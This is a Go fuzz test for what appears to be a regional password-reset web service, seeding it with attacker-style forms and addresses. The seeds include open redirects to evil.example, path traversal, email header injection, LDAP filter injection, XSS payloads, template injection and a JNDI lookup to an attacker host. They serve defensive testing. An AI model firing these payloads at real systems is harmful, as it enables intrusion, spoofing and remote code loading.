package main

import (
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// R5, R25, R27, R28: whatever is sent, wherever it is sent to, with or without a reset under way. In the body, FORM is what
// the page of the visitor carries hidden.
func FuzzForm(f *testing.F) {
	w := openWorld(f)
	seedForms(f, w)
	visitors := make([]visitor, len(steps))
	f.Fuzz(func(t *testing.T, step byte, method, target, contentType string, body []byte) {
		if !line(method, target, contentType) {
			return
		}
		v := &visitors[int(step)%len(steps)]
		if at := steps[int(step)%len(steps)]; v.at != at {
			*v = w.arrive(t, at)
		}
		body = []byte(strings.ReplaceAll(string(body), "FORM", v.hidden.Encode()))
		w.started(t) // whatever was before
		r := w.ask(t, stranger, method, request{
			method: method, target: target, contentType: contentType, cookie: v.cookie, body: body,
		}.bytes())
		r.whole(t, method)
		began := slices.Contains(w.started(t), stranger)
		if refused := r.status >= 400 && r.status != 422; refused && began {
			t.Errorf("answered %d, and yet a reset was begun", r.status)
		}
		if began && (method != "POST" || len(r.header.Values("Set-Cookie")) != 1) {
			t.Errorf("a reset was begun by %s, which is answered %d", method, r.status)
		}
		if method == "POST" && manifold(target, body) && r.status < 400 {
			t.Errorf("a field that was sent twice is answered %d", r.status)
		}
		if !v.stands(t, w) {
			if r.status >= 400 && r.status != 422 || method != "POST" {
				t.Errorf("%s is answered %d, and has moved the visitor from %s", method, r.status, v.at)
			}
			*v = visitor{}
		}
	})
}

// manifold tells whether a form names a field twice, or cannot be read.
func manifold(target string, body []byte) bool {
	_, query, _ := strings.Cut(target, "?")
	all, err := url.ParseQuery(query + "&" + string(body))
	for _, values := range all {
		if len(values) > 1 {
			return true
		}
	}
	return err != nil
}

// seedForms are what forms of ours and of attackers look like.
func seedForms(f *testing.F, w *world) {
	style := regexp.MustCompile(`/static/[^"]*`).FindString(w.get(f, "/fr/", "").body)
	for i, target := range []string{"/", "/fr", "/fr/", "/en/", "/fr/p/usagers", "/fr/p/agents-lycees", "/fr/p/support",
		"/fr/p/", "/fr/code", "/fr/code?new", "/fr/code/resend", "/fr/account", "/fr/password", "/fr/wait",
		"/fr/wait?seen=1", "/fr/done", "/fr/ended", "/fr/cancel", "/fr/accessibility", style, style + "/x",
		"/static/../fr/", "//evil.example/%2e%2e", "/fr//evil.example", "/fr/%5cevil.example", "/fr/p/..%2f..%2fetc",
		"/fr/code?next=//evil.example", "/xx/code", "/\x00", "/%00", "/%zz", "*",
		"https://" + ownHost + "/fr/", "https://evil.example/fr/", "?", "/fr/%e2%80%ae"} {
		f.Add(byte(i), "GET", target, "", []byte(nil))
	}
	for step := range steps {
		f.Add(byte(step), "GET", "/fr/wait/events", "", []byte(nil))
	}
	for _, method := range []string{"HEAD", "OPTIONS", "CONNECT", "TRACE", "PUT", "DELETE", "PATCH", "post", "", "G T",
		"\x00"} {
		f.Add(byte(1), method, "/fr/code", formType, []byte("FORM&code=000000"))
		f.Add(byte(0), method, "*", "", []byte(nil))
	}
	for i, address := range hostileAddresses {
		target := []string{"/fr/p/usagers", "/en/p/elus"}[i%2]
		f.Add(byte(0), "POST", target, formType, []byte(url.Values{"address": {address}}.Encode()))
	}
	for _, body := range []string{"address=a@b.example&address=c@d.example", "address[]=a@b.example",
		"address=a%40b.example;address=c", "ADDRESS=a@b.example", "address=%zz", "address=%ff%fe", "address=%00",
		"=a@b.example", "&&&", "", "address", "_method=PUT&address=a@b.example", "address=camille.durand@mail.example",
		"\xef\xbb\xbfaddress=camille.durand@mail.example",
		strings.Repeat("a&", 8000), "address=" + strings.Repeat("a", 40000)} {
		f.Add(byte(0), "POST", "/fr/p/usagers", formType, []byte(body))
	}
	f.Add(byte(0), "POST", "/fr/p/usagers?address=a@b.example", formType, []byte("address=c@d.example"))
	f.Add(byte(0), "POST", "/fr/p/usagers", "application/json", []byte(`{"address": ["a@b.example", "c@d.example"]}`))
	f.Add(byte(0), "POST", "/fr/p/usagers", "multipart/form-data; boundary=x",
		[]byte("--x\r\nContent-Disposition: form-data; name=\"address\"\r\n\r\na@b.example\r\n--x--\r\n"))
	f.Add(byte(0), "POST", "/fr/p/usagers", formType+"; charset=utf-7", []byte("address=a@b.example"))
	f.Add(byte(0), "POST", "/fr/p/usagers", "Application/X-WWW-Form-Urlencoded;", []byte("address=a@b.example"))
	for step, bodies := range [][]string{1: {"FORM&code=000000", "code=000000", "FORM&code=000+000&code=111111",
		"FORM&code=%EF%BC%90%EF%BC%91", "FORM&code[]=000000", "FORM&FORM", "FORM"},
		2: {"FORM&account=1", "FORM&account=0", "FORM&account=-1", "FORM&account=9999999999999999999",
			"FORM&account=1&account=2", "account=1e0"},
		3: {"FORM&password=Falaise-26-Brume&confirm=Falaise-26-Brume", "FORM&password=a&confirm=b",
			"FORM&password=%00&confirm=%00", "FORM&password=&confirm=",
			"FORM&password=Falaise-26-Brume&password=x&confirm=x",
			"FORM&password=%ff&confirm=%ff"}} {
		for i, body := range bodies {
			f.Add(byte(step), "POST", "/fr/"+steps[step], formType, []byte(body))
			f.Add(byte(step+1), "POST", []string{"/fr/" + steps[step], "/fr/cancel", "/fr/code/resend"}[i%3], formType,
				[]byte(body))
		}
	}
}

// hostileAddresses are what is typed to be taken for somebody else, or to get out of the place where it is put (R4, R8, R29).
var hostileAddresses = []string{"camille.durand@mail.example", "CAMILLE.DURAND@MAIL.EXAMPLE",
	"camille.durand+x@mail.example", "camille.durand@mail.example.", "\u212aarim.haddad@mail.example",
	"lucie.\ufb01ontanel@mail.example", "\u017farah.leveque@mail.example", "n\u0130colas.dubreuil@mail.example",
	"\uff43amille.durand@mail.example", "camille.durand@mail\u3002example", "jos\u00e9@mail.example",
	"jose\u0301@mail.example", "\u0441amille.durand@mail.example", "camille.durand@mail.example\u200b",
	"\u202ecamille@mail.example", "camille.durand@mail.example,evil@evil.example",
	"camille.durand@mail.example evil@evil.example", "camille.durand@mail.example;evil@evil.example",
	"<camille.durand@mail.example>", "\"camille durand\"@mail.example",
	"camille.durand@mail.example\r\nBcc: evil@evil.example", "camille.durand@mail.example%0d%0aBcc:evil@evil.example",
	"camille.durand@mail.example\x00", "*", "*@mail.example", "*)(uid=*", "camille*)(|(uid=*", "\\2a", "(", ")", "&",
	"|", "!", "uid=camille.durand,ou=usagers,dc=region,dc=example", "\\", "\xff\xfe", "\xc0\x80",
	"camille.durand@[127.0.0.1]", "@", "@@", "a@b@c", strings.Repeat("a", 243) + "@mail.example",
	"<script>alert(1)</script>@mail.example", "\"><img src=x onerror=alert(1)>@mail.example", "{{.Frame}}@mail.example",
	"${jndi:ldap://evil.example}@mail.example"}
